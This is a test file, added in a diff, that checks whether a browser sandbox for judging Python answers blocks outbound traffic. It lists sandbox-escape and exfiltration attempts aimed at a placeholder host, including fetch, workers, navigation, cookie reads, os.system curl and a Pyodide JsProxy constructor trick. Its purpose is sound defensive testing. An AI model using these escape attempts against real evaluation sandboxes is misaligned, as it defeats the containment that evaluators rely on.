@@ -1,0 +1,162 @@
+// Nothing leaves the sandbox: a server counts while answers, and raw scripts in the frame and in a worker of its kind, try each way
+// out. From a worker, where answers run, not even a connection is made. A document may make an empty one: Chromium connects ahead of
+// an inner frame before it asks the policy, and then sends nothing; only our own script runs there.
+import { createServer, type Server } from "node:net";
+import { type Browser, chromium, type Frame, type Page } from "playwright";
+import { afterAll, beforeAll, describe, expect, test } from "vitest";
+import { chromiumFlags, findChromium } from "../../scripts/find_chromium.mjs";
+import { type JudgeSite, serveJudgePage } from "../../src/cli/judge_browser.ts";
+
+let outside: Server;
+let target: string;
+let connections = 0;
+let requests = 0;
+let site: JudgeSite;
+let browser: Browser;
+let page: Page;
+let frame: Frame;
+
+beforeAll(async () => {
+  outside = createServer((socket) => {
+    connections++;
+    socket.on("error", () => socket.destroy());
+    socket.once("data", () => {
+      requests++;
+      socket.destroy();
+    });
+  });
+  await new Promise<void>((resolve) => outside.listen(0, "127.0.0.1", resolve));
+  const address = outside.address();
+  target = `127.0.0.1:${typeof address === "object" ? address?.port : ""}`;
+  site = await serveJudgePage();
+  const executablePath = findChromium();
+  if (!executablePath) throw new Error("no Chromium found");
+  browser = await chromium.launch({ executablePath, args: chromiumFlags({ webgpu: false }) });
+  page = await browser.newPage();
+  await page.exposeFunction("tellVerdicts", () => {});
+  await page.goto(site.url);
+  await page.evaluate(() => window.judgePage.open(1));
+  const found = page.frames().find((candidate) => candidate.url().endsWith("frame.html"));
+  if (!found) throw new Error("the sandbox frame is not there");
+  frame = found;
+}, 120_000);
+
+afterAll(async () => {
+  await browser?.close();
+  await site?.close();
+  outside?.close();
+});
+
+/** Time for a request that was let through to arrive. */
+const settle = () => new Promise((resolve) => setTimeout(resolve, 400));
+
+test("the counting server counts: the page's own policy is not what holds", async () => {
+  const plain = await browser.newPage();
+  await plain.goto(`http://${target}/`).catch(() => {});
+  await settle();
+  expect([connections > 0, requests > 0]).toEqual([true, true]);
+  await plain.close();
+});
+
+describe("scripts in the frame", () => {
+  /** Ways out that exist in a document and in a worker alike. */
+  const WAYS: readonly [name: string, source: string][] = [
+    ["fetch", "fetch('http://TARGET/').catch(() => {})"],
+    ["fetch without CORS", "fetch('http://TARGET/', { mode: 'no-cors' }).catch(() => {})"],
+    ["XMLHttpRequest", "(() => { const x = new XMLHttpRequest(); x.open('GET', 'http://TARGET/', true); x.send(); })()"],
+    ["WebSocket", "new WebSocket('ws://TARGET/')"],
+    ["EventSource", "new EventSource('http://TARGET/')"],
+    ["WebTransport", "new WebTransport('https://TARGET/')"],
+    ["import", "import('http://TARGET/x.mjs').catch(() => {})"],
+    ["worker", "new Worker('http://TARGET/x.js')"],
+    ["worker from data", "new Worker('data:text/javascript,fetch(\"http://TARGET/\")')"],
+    ["script by eval", "(0, eval)('fetch(\"http://TARGET/\")')"],
+  ];
+  const IN_DOCUMENT: readonly [name: string, source: string][] = [
+    ["image", "(new Image()).src = 'http://TARGET/x.png'"],
+    ["beacon", "navigator.sendBeacon('http://TARGET/')"],
+    [
+      "style sheet",
+      "document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: 'http://TARGET/x.css' }))",
+    ],
+    ["prefetch", "document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: 'http://TARGET/' }))"],
+    ["inner frame", "document.body.append(Object.assign(document.createElement('iframe'), { src: 'http://TARGET/' }))"],
+    [
+      "form",
+      "(() => { const f = Object.assign(document.createElement('form'), { action: 'http://TARGET/' }); document.body.append(f); f.submit(); })()",
+    ],
+    ["window.open", "window.open('http://TARGET/')"],
+    ["top navigation", "top.location.href = 'http://TARGET/'"],
+    ["parent's document", "parent.document.title"],
+  ];
+
+  test.each([...WAYS, ...IN_DOCUMENT])("%s", async (_, source) => {
+    const before = requests;
+    await frame.evaluate(
+      (code) => {
+        try {
+          const script = document.createElement("script");
+          script.textContent = code; // refused by the policy: it has another hash
+          document.head.append(script);
+        } catch (error) {
+          console.info(String(error));
+        }
+      },
+      source.replaceAll("TARGET", target),
+    );
+    // Playwright's own evaluate passes the script policy, so that the other directives are tried too.
+    if (!source.includes("eval")) await frame.evaluate(source.replaceAll("TARGET", target)).catch(() => {});
+    await settle();
+    expect(requests).toBe(before);
+  });
+
+  test.each(WAYS)("%s in a worker", async (_, source) => {
+    const before = connections;
+    await frame.evaluate(
+      (code) => {
+        const url = URL.createObjectURL(new Blob([`try { ${code} } catch (error) {}`], { type: "text/javascript" }));
+        new Worker(url);
+      },
+      source.replaceAll("TARGET", target),
+    );
+    await settle();
+    expect(connections).toBe(before);
+  });
+
+  test("storage is out of reach", async () => {
+    const reach = (source: string) =>
+      frame.evaluate(source).then(
+        () => "reached",
+        (error: Error) => error.message,
+      );
+    expect(await reach("localStorage.length")).toContain("sandboxed");
+    expect(await reach("document.cookie")).toContain("sandboxed");
+    expect(await reach("parent.document.title")).toContain("cross-origin");
+    expect(await frame.evaluate("self.origin")).toBe("null");
+  });
+});
+
+test("answers that try to get out", async () => {
+  const before = connections;
+  const bodies = [
+    "import js\n    js.fetch('http://TARGET/')",
+    "from pyodide.http import open_url\n    open_url('http://TARGET/')",
+    "import asyncio\n    from pyodide.http import pyfetch\n    asyncio.get_event_loop().create_task(pyfetch('http://TARGET/'))",
+    "import urllib.request\n    urllib.request.urlopen('http://TARGET/')",
+    "import socket\n    host, port = 'TARGET'.split(':')\n    socket.create_connection((host, int(port)), timeout=1)",
+    "from pyodide.code import run_js\n    run_js('fetch(\"http://TARGET/\")')",
+    "import pyodide_js\n    pyodide_js.loadPackage('http://TARGET/x.whl')",
+    "import os\n    os.system('curl http://TARGET/')",
+    "import gc\n    for o in gc.get_objects():\n        if type(o).__name__ == 'JsProxy':\n            o.constructor.constructor('fetch(\"http://TARGET/\")')()",
+  ];
+  const answers = bodies.map((body) => ({
+    taskId: "Out/1",
+    program: `def f(x):\n    ${body.replaceAll("TARGET", target)}\n    return x\n`,
+    entryPoint: "f",
+    tests: ["assert f(1) == 1"],
+    timeoutMs: 2000,
+  }));
+  await page.evaluate((of) => window.judgePage.judge(1, of, "batch"), answers);
+  await settle();
+  expect(connections).toBe(before);
+}, 60_000);
